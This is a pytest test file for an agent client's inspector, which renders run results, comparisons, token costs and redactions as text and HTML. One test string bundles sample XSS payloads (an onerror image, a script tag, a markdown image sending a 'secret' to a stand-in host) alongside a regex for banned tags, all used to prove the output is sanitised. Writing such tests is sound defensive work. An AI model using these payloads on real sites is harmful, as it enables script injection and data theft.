"""`result.inspect()` and comparisons: what they show, that secrets and markup stay out, and when events are kept."""

# isinstance() makes a RunResult[Unknown] of a partial result.
# pyright: reportUnknownMemberType=false, reportUnknownArgumentType=false

from __future__ import annotations

import pickle
import re
from pathlib import Path
from typing import Any

import pytest
from ag_ui.core import TokenUsage

import agui_client
from agui_client import RunResult, UsageError, tool
from agui_client.inspector._prices import read_prices
from agui_client.inspector._summary import summary_of
from agui_client.notebook._recording_elements import comparison_page
from agui_client.recording import Recording, record
from agui_client.recording._kept_calls import Memory, MemoryRecorder
from agui_client.teams import SequentialAgent
from agui_client.testing import ScriptedAgent, patch, reasoning, state, text, tool_call, turn

HOSTILE = "<img src=x onerror=alert(1)> ![y](http://evil.example/?secret) \u202e </details><script>alert(1)</script>"
USAGE = [TokenUsage(model="small", input_tokens=2_000_000, output_tokens=100_000)]


@tool
def get_weather(city: str) -> dict[str, object]:
    """Look at the sky."""
    return {"celsius": 18, "password": "hunter2"}


def agent(answer: str = "Take the **ferry**.", *, observers: Any = ()) -> ScriptedAgent:
    script = (
        turn(reasoning("Weather."), state({"by": None}), tool_call("get_weather", {"city": "Oslo"}), usage=USAGE),
        turn(patch({"op": "replace", "path": "/by", "value": answer}), text(answer)),
    )
    return ScriptedAgent(*script, tools=[get_weather], observers=observers)


@pytest.fixture
def in_notebook(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("agui_client._core.ground.display.in_notebook", lambda: True)


def plain(shown: object) -> str:
    return re.sub(r" +", " ", str(shown))


@pytest.mark.usefixtures("in_notebook")
def test_a_call_in_a_notebook_shows_its_events_messages_changes_tools_and_tokens() -> None:
    shown = plain(agent().run_agent_sync("Hi").inspect())
    assert re.match(r"success · 2 requests · 20 events · [\d.]+ m?s · 2000000 tokens in, 100000 out\n", shown)
    assert re.search(r"TEXT_MESSAGE_CONTENT \u00d7\d in [\d.]+ m?s Take the \*\*ferry\*\*\.", shown)
    assert re.search(r"tool get_weather succeeded", shown)
    assert "agent: Take the **ferry**." in shown
    assert re.search(r's \| /by \| null \| "Take the \*\*ferry\*\*\."', shown)
    assert re.search(r'get_weather \| {"city": "Oslo"} \| {.*"\[redacted\]"} \| succeeded in', shown)
    assert "hunter2" not in shown


@pytest.mark.usefixtures("in_notebook")
def test_there_is_money_only_with_prices_that_were_given() -> None:
    result = agent().run_agent_sync("Hi")
    without, priced = plain(result.inspect()), plain(result.inspect(prices={"small": (1.5, 10)}))
    assert "there is no money without prices" in without
    assert "2000000 tokens in, 100000 out · 4.00" in priced
    assert "with the prices that you gave, per million tokens: small 1.5 in, 10 out" in priced
    assert "without a price or a number of tokens: small" in plain(result.inspect(prices={"large": (1, 1)}))


@pytest.mark.usefixtures("in_notebook")
def test_the_html_has_markdown_and_nothing_that_an_agent_could_load_or_run() -> None:
    result, other = (agent(answer).run_agent_sync("Hi") for answer in (f"**bold** {HOSTILE}", HOSTILE))
    for shown in (result.inspect(), result.inspect(other)):
        html = shown._repr_mimebundle_()["text/html"]
        assert "<strong>bold</strong>" in html
        assert not re.search(r"<(img|script|iframe|svg|link|object)|\son\w+=\"|url\(|\u202e", html)
        assert "\\u202e" in html


def test_outside_of_a_notebook_events_are_kept_by_a_recorder(tmp_path: Path) -> None:
    asked = agent(observers=[record(tmp_path / "run.jsonl")])
    first, second = asked.run_agent_sync("Hi"), asked.run_agent_sync("And back?")
    shown = plain(first.inspect())
    assert "TOOL_CALL_START" in shown
    assert "And back?" not in shown
    assert "And back?" in plain(second.inspect())
    saved = first.inspect().save(tmp_path / "page.html")
    assert b"TOOL_CALL_START" in saved.read_bytes()
    assert saved.stat().st_mode & 0o077 == 0
    compared = first.inspect(second).save(tmp_path / "both.html").read_bytes()
    assert b"default-src 'none'" in compared
    assert b"<script" not in compared


def test_without_events_the_result_is_shown_and_the_reason_is_said() -> None:
    result = agent().run_agent_sync("Hi")
    shown = plain(result.inspect(prices={"small": (1, 1)}))
    assert "The events of this call were not kept" in shown
    assert "TEXT_MESSAGE_CONTENT" not in shown
    assert "2000000 tokens in, 100000 out · 2.10" in shown
    assert ("hunter2" in shown, "[redacted]" in shown, "succeeded in" in shown) == (False, True, True)
    with pytest.raises(UsageError, match="not kept"):
        result.inspect().save("page.html")


@pytest.mark.usefixtures("in_notebook")
def test_what_was_kept_is_no_part_of_a_result_that_is_compared_or_pickled() -> None:
    result = agent().run_agent_sync("Hi")
    copy: RunResult = pickle.loads(pickle.dumps(result))
    assert copy == result
    assert "not kept" in str(copy.inspect())


@pytest.mark.usefixtures("in_notebook")
def test_a_failed_call_shows_what_arrived_and_how_it_ended() -> None:
    broken = ScriptedAgent([text("Hm")])
    with pytest.raises(agui_client.AGUIError) as failed:
        broken.run_agent_sync("Hi")
    assert isinstance(failed.value.partial, RunResult)
    shown = str(failed.value.partial.inspect())
    assert shown.startswith("failed: EventOrderError: ")


@pytest.mark.usefixtures("in_notebook")
def test_the_calls_of_a_team_are_on_the_timeline_of_its_call() -> None:
    team = SequentialAgent(
        *(ScriptedAgent(turn(text(name)), agent_id=name) for name in ("one", "two")), agent_id="team"
    )
    shown = plain(team.run_agent_sync("Hi").inspect())
    assert re.search(r"^success · 3 requests ·", shown)
    assert {*re.findall(r"^(\w+) (?=[█·]{40})", shown, re.MULTILINE)} >= {"team", "one", "two"}


def test_the_oldest_calls_are_forgotten_when_memory_is_full() -> None:
    memory = Memory(most_bytes=4000)
    results = [
        agent(observers=[MemoryRecorder(memory)]).run_agent_sync(f"{number} " + "x" * 600) for number in range(4)
    ]
    kept = [bool(result.kept_lines) for result in results]
    assert (kept[0], sorted(kept) == kept) == (False, True)


def test_two_calls_are_compared_in_messages_state_and_tools(tmp_path: Path) -> None:
    results: list[RunResult] = []
    for name, answer in (("a", "Take the ferry."), ("b", "Take the bus.")):
        results.append(agent(answer, observers=[record(tmp_path / f"{name}.jsonl")]).run_agent_sync("Hi"))
    shown = plain(results[0].inspect(results[1]))
    assert "call 1: differs in messages, state ·" in shown
    assert "≠ | assistant: Take the ferry. | assistant: Take the bus." in shown
    assert '/by | "Take the ferry." | "Take the bus."' in shown
    assert "call 1: the same" in plain(results[0].inspect(results[0]))
    page = comparison_page(*(Recording.read(tmp_path / f"{name}.jsonl") for name in "ab"), prices={})
    assert b"A: a.jsonl" in page


def test_deltas_that_follow_each_other_are_one_row(tmp_path: Path) -> None:
    agent("one two three four five", observers=[record(tmp_path / "run.jsonl")]).run_agent_sync("Hi")
    shown = summary_of(Recording.read(tmp_path / "run.jsonl"))
    rows = [row for request in shown.requests for row in request.rows if row.name == "TEXT_MESSAGE_CONTENT"]
    assert [(len(row.pieces), row.summary) for row in rows] == [(5, "one two three four five")]


@pytest.mark.parametrize("given", ["", "small", "small=1", "small=1/x", "=1/2", "small=-1/2", "small=1/nan", "a=1/2/3"])
def test_a_price_that_cannot_be_read_says_how_to_write_it(given: str) -> None:
    with pytest.raises(UsageError, match="write model=in/out"):
        read_prices([given])


def test_the_name_of_a_model_may_have_an_equals_sign() -> None:
    assert read_prices(["x=y=1.25/10"]) == {"x=y": (1.25, 10.0)}
